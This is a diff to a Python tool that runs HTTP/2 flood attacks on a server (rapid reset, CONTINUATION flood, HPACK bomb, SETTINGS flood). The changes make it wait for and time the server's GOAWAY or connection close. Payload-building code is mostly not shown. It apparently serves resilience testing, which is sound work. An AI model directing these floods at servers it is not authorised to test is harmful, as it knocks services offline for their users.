@@ -56,7 +56,9 @@ class Watcher:
         self.goaway, self.closed, self.resets, self.statuses, self.frames = None, False, {}, {}, 0
         self.decoder = hpack.Decoder()
         self.decoder.max_header_list_size = 1 << 30
+        self.decoder.max_allowed_table_size = 1 << 16
         self.block, self.block_sid = b"", None
+        self.began, self.ended_at = time.monotonic(), None
 
     def poll(self, timeout):
         """Reads for up to timeout; True while the connection is open."""
@@ -74,6 +76,7 @@ class Watcher:
                 data = b""
             if not data:
                 self.closed = True
+                self.ended_at = self.ended_at or time.monotonic()
                 break
             self.buffer += data
             self.parse()
@@ -89,6 +92,7 @@ class Watcher:
             self.frames += 1
             if kind == GOAWAY and len(payload) >= 8 and self.goaway is None:
                 self.goaway = int.from_bytes(payload[4:8], "big")
+                self.ended_at = time.monotonic()
             elif kind == RST_STREAM and len(payload) >= 4:
                 self.resets[sid] = int.from_bytes(payload[:4], "big")
             elif kind in (HEADERS, CONTINUATION):
@@ -108,12 +112,21 @@ class Watcher:
                     except Exception:
                         pass
 
+    def finish(self, timeout=10, after_goaway=3):
+        """Reads until the close, timeout, or after_goaway seconds past a GOAWAY (is the connection closed too?)."""
+        deadline = time.monotonic() + timeout
+        while not self.closed and time.monotonic() < deadline:
+            if self.goaway is not None:
+                deadline = min(deadline, self.ended_at + after_goaway)
+            self.poll(min(0.2, max(0.0, deadline - time.monotonic())))
+
     def ended(self):
         return self.closed or self.goaway is not None
 
     def describe(self):
-        return "GOAWAY %s, closed %s, %d streams reset, statuses %s, %d frames read" % (
-            self.goaway, self.closed, len(self.resets), sorted(set(self.statuses.values())), self.frames)
+        after = " (%.1f s after the attack began)" % (self.ended_at - self.began) if self.ended_at else ""
+        return "GOAWAY %s%s, connection closed %s, %d streams reset, statuses %s, %d frames read" % (
+            self.goaway, after, self.closed, len(self.resets), sorted(set(self.statuses.values())), self.frames)
 
 
 def send(sock, watcher, data):
@@ -138,8 +151,9 @@ def rapid_reset(sock, authority, path, streams=10000, seconds=20):
             break
         sent = min(sent + 250, streams)
         watcher.poll(0)
-    watcher.poll(10)
-    return watcher, "%d streams opened and reset in %.1f s" % (sent, time.monotonic() - began)
+    said = "%d streams opened and reset in %.1f s" % (sent, time.monotonic() - began)
+    watcher.finish()
+    return watcher, said
 
 
 def continuation_flood(sock, authority, path, limit=16 << 20, seconds=20):
@@ -155,8 +169,9 @@ def continuation_flood(sock, authority, path, limit=16 << 20, seconds=20):
                 break
             sent += len(chunk)
             watcher.poll(0)
-    watcher.poll(10)
-    return watcher, "%.1f MB of CONTINUATION in %.1f s" % (sent / 1e6, time.monotonic() - began)
+    said = "%.1f MB of CONTINUATION in %.1f s" % (sent / 1e6, time.monotonic() - began)
+    watcher.finish()
+    return watcher, said
 
 
 def hpack_bomb(sock, authority, path, streams=20, references=16000):
@@ -176,7 +191,7 @@ def hpack_bomb(sock, authority, path, streams=20, references=16000):
         if watcher.ended() or not send(sock, watcher, data):
             break
         watcher.poll(0)
-    watcher.poll(10)
+    watcher.finish()
     bomb_sids = [3 + 2 * i for i in range(streams)]
     refused = all(sid in watcher.resets or watcher.statuses.get(sid) == "431" for sid in bomb_sids)
     return watcher, refused, "%d requests of %d MB of headers each" % (streams, references * 4 // 1000)
@@ -195,5 +210,6 @@ def settings_flood(sock, frames=200000, seconds=20):
             break
         sent += 2000
     sock.settimeout(None)
-    watcher.poll(10)
-    return watcher, "%d SETTINGS frames in %.1f s without reading" % (sent, time.monotonic() - began)
+    said = "%d SETTINGS frames in %.1f s without reading" % (sent, time.monotonic() - began)
+    watcher.finish()
+    return watcher, said
